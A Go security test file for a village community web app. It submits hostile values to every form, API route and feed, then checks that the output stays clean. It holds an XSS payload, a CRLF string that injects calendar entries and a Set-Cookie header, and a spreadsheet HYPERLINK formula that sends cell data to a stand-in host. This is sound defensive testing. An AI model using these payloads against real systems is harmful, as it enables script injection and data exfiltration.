package app_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"

	"dorflinde/internal/app"
	"dorflinde/internal/people"
	"dorflinde/internal/platform/i18n"
)

// What strangers and jokers type into fields.
const (
	markup  = `"><script>alert(1)</script><img src=x onerror=alert(1)>'</textarea></title>`
	control = "Fest\x00\x01\x1b[31m\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT\r\nSet-Cookie: a=b\u202e\u2028"
	invalid = "Fest \xff\xfe\xc3( Ende"
	formula = `=HYPERLINK("http://boese.example/?x="&A1;"Gewinn")`
)

// unsafe names what in a page a browser would carry out, empty for nothing.
func unsafe(page string) string {
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return err.Error()
	}
	found := ""
	walk(doc, func(n *html.Node) {
		if n.Type != html.ElementNode {
			return
		}
		for _, a := range n.Attr {
			low := strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || strings.HasPrefix(low, "javascript:") {
				found = fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
		src, _ := attribute(n, "src")
		kind, _ := attribute(n, "type")
		switch {
		case n.Data == "img" && src == "x":
			found = "the picture"
		case n.Data == "script" && src == "" && kind != "application/ld+json":
			found = "an inline script: " + textOf(n)
		case n.Data == "script" && kind == "application/ld+json" && !json.Valid([]byte(textOf(n))):
			found = "broken JSON-LD: " + textOf(n)
		}
	})
	return found
}

// icsLine is a content line or its continuation (RFC 5545, 3.1).
var icsLine = regexp.MustCompile(`^( .*|[A-Z][A-Z0-9-]*(;[A-Z-]+=[^:;]*("[^"]*")?)*:.*|)$`)

// wrongAnswer tells what is wrong with an answer, whatever its kind.
func wrongAnswer(w *httptest.ResponseRecorder) string {
	body, kind := w.Body.String(), w.Header().Get("Content-Type")
	if w.Code >= 500 {
		return fmt.Sprintf("status %d", w.Code)
	}
	if to := w.Header().Get("Location"); strings.ContainsAny(to, "\r\n") || to != "" && !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") {
		return "leads to " + to
	}
	switch {
	case strings.HasPrefix(kind, "text/html"):
		return unsafe(body)
	case strings.Contains(kind, "xml"):
		for d := xml.NewDecoder(strings.NewReader(body)); ; {
			if _, err := d.Token(); errors.Is(err, io.EOF) {
				return ""
			} else if err != nil {
				return "XML: " + err.Error()
			}
		}
	case strings.Contains(kind, "json"):
		if !json.Valid([]byte(body)) {
			return "JSON is not valid"
		}
	case strings.HasPrefix(kind, "text/calendar"):
		for line := range strings.SplitSeq(body, "\r\n") {
			if line == "SUMMARY:injected" || !icsLine.MatchString(line) || len(line) > 75 || !utf8.ValidString(line) && line != "" {
				return fmt.Sprintf("calendar line %q", line)
			}
		}
	case strings.HasPrefix(kind, "text/csv"):
		return wrongSheet(body)
	}
	return ""
}

// number is what a spreadsheet may take for a number without harm.
var number = regexp.MustCompile(`^[+-][0-9 .,/()-]+$`)

func wrongSheet(body string) string {
	read := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	first, _, _ := strings.Cut(body, "\n")
	if strings.Count(first, ";") > strings.Count(first, ",") {
		read.Comma = ';'
	}
	read.FieldsPerRecord = -1
	rows, err := read.ReadAll()
	if err != nil {
		return "CSV: " + err.Error()
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
				return fmt.Sprintf("CSV cell %q", cell)
			}
		}
	}
	return ""
}

// lastForms end what later forms need.
var lastForms = []string{"rolle", "uebergabe", "entfernen", "sperren", "widerrufen", "beenden", "abmelden", "loeschen"}

func lateness(pattern string) int {
	for i, word := range lastForms {
		if strings.Contains(pattern, word) {
			return i + 1
		}
	}
	return 0
}

// collect finds the forms of all pages, one of each kind.
func (b *browser) collect() []htmlForm {
	byPattern := map[string]htmlForm{}
	b.crawl(3, func(address string, w *httptest.ResponseRecorder) {
		for _, f := range b.formsOf(w.Body.String(), address) {
			if old, ok := byPattern[f.pattern]; !ok || len(f.values) > len(old.values) {
				byPattern[f.pattern] = f
			}
		}
	})
	return slices.SortedFunc(maps.Values(byPattern), func(x, y htmlForm) int {
		if d := lateness(x.pattern) - lateness(y.pattern); d != 0 {
			return d
		}
		return strings.Compare(x.pattern, y.pattern)
	})
}

// spoiled are the variants of a form's values that strangers send.
func (f *htmlForm) spoiled(yield func(what string, values url.Values)) {
	names := slices.Sorted(maps.Keys(f.values))
	with := func(change func(url.Values)) url.Values {
		v := url.Values{}
		for name, all := range f.values {
			v[name] = slices.Clone(all)
		}
		if len(f.buttons) > 0 {
			v.Set(f.buttons[0][0], f.buttons[0][1])
		}
		change(v)
		return v
	}
	for what, text := range map[string]string{"markup": markup, "control": control, "invalid": invalid, "formula": formula} {
		for _, name := range names {
			if what == "markup" {
				yield(what+" in "+name, with(func(v url.Values) { v.Set(name, text) }))
			}
		}
		for i := range max(1, len(f.buttons)) {
			yield(what+" in all texts", with(func(v url.Values) {
				for _, name := range f.text {
					v.Set(name, text)
				}
				if len(f.buttons) > 0 {
					v.Set(f.buttons[i][0], f.buttons[i][1])
				}
			}))
		}
	}
	for _, name := range names {
		yield("many of "+name, with(func(v url.Values) { v[name] = []string{markup, "", "b", v.Get(name)} }))
		yield("without "+name, with(func(v url.Values) { v.Del(name) }))
	}
	yield("nothing", url.Values{})
	yield("all long", with(func(v url.Values) {
		for _, name := range f.text {
			v.Set(name, strings.Repeat("Ä< ", 20_000))
		}
	}))
	if len(f.text) > 0 {
		yield("a million", with(func(v url.Values) { v.Set(f.text[len(f.text)-1], strings.Repeat("x", 1<<20)) }))
	}
	odd := with(func(v url.Values) { v[markup], v["\xff[]"] = []string{"1"}, []string{"2"} })
	yield("fields nobody knows", odd)
}

func TestHostileTextInEveryForm(t *testing.T) {
	a := village(t, app.Config{})
	reached := map[string]bool{}
	club := newBrowser(t, a, "verein@beispiel.example").signIn(t)
	operator := newBrowser(t, a, "betrieb@beispiel.example").signIn(t)
	resident := newBrowser(t, a, "buerger@beispiel.example").signIn(t)
	office := newBrowser(t, a, "rathaus@beispiel.example").signIn(t)
	guest := newBrowser(t, a, "")
	sent := 0
	for _, b := range []*browser{guest, resident, club, office, operator} {
		for _, f := range b.collect() {
			reached[f.pattern] = true
			f.spoiled(func(what string, values url.Values) {
				if b.email != "" && b.get("/konto").Code != http.StatusOK {
					b.signIn(t)
				}
				kind, body := f.encode(values, nil)
				start := time.Now()
				w := b.send(b.request(http.MethodPost, f.action, kind, body))
				if wrong := wrongAnswer(w); wrong != "" {
					t.Errorf("%s as %s, %s: %s", f.pattern, b.email, what, wrong)
				}
				if took := time.Since(start); took > 5*time.Second {
					t.Errorf("%s as %s, %s: took %s", f.pattern, b.email, what, took)
				}
				sent++
			})
		}
	}
	// What no page showed a form for is sent the fields of all the others.
	for _, route := range a.Routes() {
		if route.Method == http.MethodGet || route.API || reached[route.Pattern()] {
			continue
		}
		for _, text := range []string{markup, control, invalid, strings.Repeat("x", 600_000)} {
			values := url.Values{}
			for _, name := range []string{"name", "email", "title", "text", "id", "kind", "place", "weiter", "password", "code", "pin", "action"} {
				values.Set(name, text)
			}
			if wrong := wrongAnswer(operator.send(operator.request(route.Method, address(route.Path), "application/x-www-form-urlencoded", strings.NewReader(values.Encode())))); wrong != "" {
				t.Errorf("%s without a form: %s", route.Pattern(), wrong)
			}
			sent++
		}
		t.Logf("no page shows a form for %s", route.Pattern())
	}
	if sent < 1500 || len(reached) < 35 {
		t.Errorf("only %d submissions to %d routes", sent, len(reached))
	}
	apiText(t, a)
	if err := a.Settle(i18n.With(t.Context(), a.Localizer(i18n.German))); err != nil {
		t.Error(err)
	}
	everyOutlet(t, a)
}

// everyOutlet reads all outlets, signed out and signed in.
func everyOutlet(t *testing.T, a *app.App) {
	t.Helper()
	shown, kinds := 0, map[string]int{}
	for _, email := range []string{"", "rathaus@beispiel.example"} {
		b := newBrowser(t, a, email).signIn(t)
		var entries []string
		b.crawl(12, func(address string, w *httptest.ResponseRecorder) {
			kind, _, _ := strings.Cut(w.Header().Get("Content-Type"), ";")
			kinds[kind]++
			if wrong := wrongAnswer(w); wrong != "" {
				t.Errorf("GET %s as %q: %s", address, email, wrong)
			}
			if strings.Contains(w.Body.String(), "alert(1)") {
				shown++
			}
			for _, found := range entryID.FindAllStringSubmatch(w.Body.String(), -1) {
				entries = append(entries, found[1])
			}
		})
		for _, id := range slices.Compact(slices.Sorted(slices.Values(entries)))[:min(40, len(entries))] {
			for _, suffix := range []string{".jsonld", "/kalender.ics", "/vorschau.png", ""} {
				if wrong := wrongAnswer(b.get("/e/" + id + suffix)); wrong != "" {
					t.Errorf("GET /e/%s%s: %s", id, suffix, wrong)
				}
			}
		}
		for _, query := range []string{url.QueryEscape(markup), url.QueryEscape(control), "%ff%fe", strings.Repeat("a+", 5000)} {
			for _, path := range []string{"/suche?q=", "/?q=", "/neues?thema=", "/kalender?monat=", "/karte?q=", "/feeds/rss?q=", "/feeds/atom?thema=", "/calendar.ics?thema=",
				"/verzeichnis?q=", "/termine?seite=", "/abfall?q=", "/anmelden?weiter=", "/feeds/json?von=", "/api/v1/entries?q=", "/willkommen?ort=", "/termine/freie-abende?ort="} {
				if wrong := wrongAnswer(b.get(path + query)); wrong != "" {
					t.Errorf("GET %s%.60s: %s", path, query, wrong)
				}
			}
		}
	}
	if shown < 5 {
		t.Errorf("what was typed is shown on only %d pages: nothing was proved", shown)
	}
	for _, kind := range []string{"text/html", "application/rss+xml", "application/atom+xml", "text/calendar", "text/csv", "application/feed+json", "application/xml"} {
		if kinds[kind] == 0 {
			t.Errorf("no outlet of kind %s was read: %v", kind, kinds)
		}
	}
}

var entryID = regexp.MustCompile(`/e/([0-9a-f-]{36})`)

// apiText sends hostile values for every property that the description names.
func apiText(t *testing.T, a *app.App) {
	t.Helper()
	b := newBrowser(t, a, "")
	var doc struct {
		Paths      map[string]map[string]json.RawMessage
		Components struct{ Schemas map[string]schema }
	}
	if err := json.Unmarshal(b.get("/api/v1/openapi.json").Body.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	token := issue(t, a, people.ScopeWrite)
	calls := 0
	for path, operations := range doc.Paths {
		for method, raw := range operations {
			var op struct {
				RequestBody struct {
					Content map[string]struct{ Schema schema }
				}
			}
			if json.Unmarshal(raw, &op) != nil || len(op.RequestBody.Content) == 0 {
				continue
			}
			s := op.RequestBody.Content["application/json"].Schema
			for _, text := range []string{markup, control, formula, strings.Repeat("x", 300_000)} {
				body, err := json.Marshal(s.value(doc.Components.Schemas, text, 0))
				if err != nil {
					t.Fatal(err)
				}
				for _, sent := range []string{string(body), string(body[:len(body)/2]), "[" + string(body) + "]", strings.ReplaceAll(string(body), "x", "\xff"),
					strings.Repeat("[", 100_000), `{"title":{"a":[]}}`, "null", ""} {
					r := b.request(strings.ToUpper(method), address(path), "application/json", strings.NewReader(sent))
					r.Header.Set("Authorization", "Bearer "+token)
					w := b.send(r)
					if wrong := wrongAnswer(w); wrong != "" {
						t.Errorf("%s %s with %.60q: %s", method, path, sent, wrong)
					}
					calls++
				}
			}
		}
	}
	if calls < 100 {
		t.Errorf("only %d calls", calls)
	}
}

type schema struct {
	Ref        string `json:"$ref"`
	Type       any
	Enum       []any
	Format     string
	Properties map[string]schema
	Items      *schema
}

func (s schema) value(all map[string]schema, text string, depth int) any {
	if s.Ref != "" && depth < 6 {
		return all[s.Ref[strings.LastIndexByte(s.Ref, '/')+1:]].value(all, text, depth+1)
	}
	kind := fmt.Sprint(s.Type)
	switch {
	case len(s.Enum) > 0:
		return s.Enum[0]
	case strings.Contains(kind, "object") || len(s.Properties) > 0:
		out := map[string]any{}
		for name, p := range s.Properties {
			if name != "$schema" && depth < 6 {
				out[name] = p.value(all, text, depth+1)
			}
		}
		return out
	case strings.Contains(kind, "array") && s.Items != nil:
		return []any{s.Items.value(all, text, depth+1)}
	case strings.Contains(kind, "integer") || strings.Contains(kind, "number"):
		return 1
	case strings.Contains(kind, "boolean"):
		return false
	case s.Format == "date-time":
		return "2026-12-05T18:00:00Z"
	}
	return text
}
